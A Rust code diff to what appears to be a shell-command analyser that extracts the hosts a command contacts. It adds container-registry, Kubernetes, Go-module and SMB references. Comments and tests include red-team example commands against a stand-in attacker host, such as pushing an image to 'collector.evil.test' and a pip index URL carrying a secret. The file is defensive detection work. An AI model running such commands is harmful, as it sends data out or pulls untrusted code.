@@ -98,7 +98,7 @@ pub(super) fn reaches(
 /// 28, flow H3: `pip list -o -i https://x.example/SECRET/simple` carried a secret out).
 fn fetches_by_option(program: &str, scanned: &super::scan::Scanned) -> bool {
     match program {
-        "pip" | "pip3" => scanned.has(&[
+        name if super::project_install::is_pip(name) => scanned.has(&[
             "-o",
             "--outdated",
             "-u",
@@ -282,6 +282,12 @@ pub(crate) fn host_operands(analysis: &super::Analysis) -> Vec<String> {
             out.extend(scanned.positionals.iter().flat_map(|p| fields(&p.text)));
             continue;
         }
+        if REFERENCE_PROGRAMS.contains(&program) {
+            for word in &command.words {
+                out.extend(values_of(&word.text).into_iter().filter_map(reference_host));
+            }
+            continue;
+        }
         let client = !colon && HOST_PROGRAMS.contains(&program);
         if !(client || colon) {
             continue;
@@ -325,6 +331,40 @@ pub(crate) fn host_operands(analysis: &super::Analysis) -> Vec<String> {
         }
     }
     out
+}
+
+/// Programs that fetch or send an image, a chart or a module by a reference whose first
+/// component is a host (`docker pull evil.test/x:1`, `kubectl run --image=evil.test/x`,
+/// `go install evil.test/tool@latest`, `smbclient //evil.test/share`): red team round 30,
+/// flow F3, where only a bare host word was read as one.
+const REFERENCE_PROGRAMS: [&str; 13] = [
+    "docker",
+    "podman",
+    "nerdctl",
+    "buildah",
+    "oras",
+    "crane",
+    "skopeo",
+    "regctl",
+    "kubectl",
+    "helm",
+    "go",
+    "smbclient",
+    "ctr",
+];
+
+/// The registry or module host a reference names: its first component when it has a dot,
+/// a port or is `localhost` (`evil.test/x:1`, `evil.test:5000/x`, `//evil.test/share`,
+/// `evil.test/tool@latest`), as Docker and Go tell a host from a path. A local path
+/// (`./x`, `/x`, `~/x`) and a link with a scheme (read whole elsewhere) are none.
+fn reference_host(value: &str) -> Option<String> {
+    let value = value.strip_prefix("//").unwrap_or(value);
+    if value.starts_with(['.', '/', '-', '~']) || value.contains("://") {
+        return None;
+    }
+    let (first, _) = value.split_once('/')?;
+    let host = first.rsplit_once('@').map_or(first, |(_, host)| host);
+    (host.contains('.') || host.contains(':') || host == "localhost").then(|| host.to_owned())
 }
 
 /// What a word gives a program: itself, or an option's value (`--url=X`, `-x203.7:80`).
@@ -415,5 +455,15 @@ mod tests {
         assert!(operands("cat 203.7/x && echo 3405803783").is_empty());
         // Wrapped commands are read as the commands they start.
         has("sudo timeout 5 curl 203.7", &["203.7"]);
+        // A reference's host (round 30, flow F3).
+        has("docker pull collector.evil.test/x:2", &["collector.evil.test"]);
+        has("docker push collector.evil.test:5000/x", &["collector.evil.test:5000"]);
+        has("kubectl run x --image=collector.evil.test/x", &["collector.evil.test"]);
+        has("go install collector.evil.test/tool@latest", &["collector.evil.test"]);
+        has("smbclient //collector.evil.test/share", &["collector.evil.test"]);
+        assert!(
+            operands("docker build -t app:1 ./ctx && go test ./... && docker run ubuntu:22.04")
+                .is_empty()
+        );
     }
 }
